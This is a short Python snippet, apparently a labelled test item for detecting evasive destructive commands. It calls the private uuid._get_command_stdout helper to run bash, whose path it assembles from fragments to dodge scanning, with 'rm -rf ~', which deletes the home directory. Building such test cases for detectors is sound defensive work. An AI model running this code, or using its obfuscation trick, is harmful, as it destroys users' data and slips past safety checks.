# evasion: uuid._get_command_stdout runs bash (its path built from pieces) with -c and a recursive delete of home
# grade: hard; does: delete
import uuid

SHELL = "/bin/" + "ba" + "sh"
print(uuid._get_command_stdout(SHELL, "-c", "rm -rf ~"))
